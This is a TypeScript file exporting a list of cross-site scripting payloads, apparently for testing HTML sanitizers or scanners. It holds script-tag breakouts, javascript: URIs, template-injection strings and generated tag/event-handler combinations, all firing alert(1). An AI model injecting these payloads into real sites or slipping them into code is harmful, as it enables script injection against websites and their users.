/** 100 ways to smuggle a script into a page. */
export const XSS: string[] = [
  ...['<script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>"],
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>'],
  ...[
    '</textarea><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '{{constructor.constructor("alert(1)")()}}',
  ],
  ...[
    '${alert(1)}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    '`-alert(1)-`',
    '\\";alert(1);//',
    '</script><script>alert(1)</script>',
  ],
  ...[
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
  ],
  ...['<math><mi//xlink:href="data:x,<script>alert(1)</script>">', '<svg><script>alert(1)</script></svg>'],
  ...[
    'img',
    'svg',
    'body',
    'video',
    'audio',
    'input autofocus',
    'details open',
    'iframe',
    'object',
    'embed',
  ].flatMap((tag) =>
    [
      'onload',
      'onerror',
      'onfocus',
      'ontoggle',
      'onmouseover',
      'onpageshow',
      'onanimationstart',
      'onbegin',
    ].map((event) => `<${tag} src=x ${event}=alert(1)>`),
  ),
];
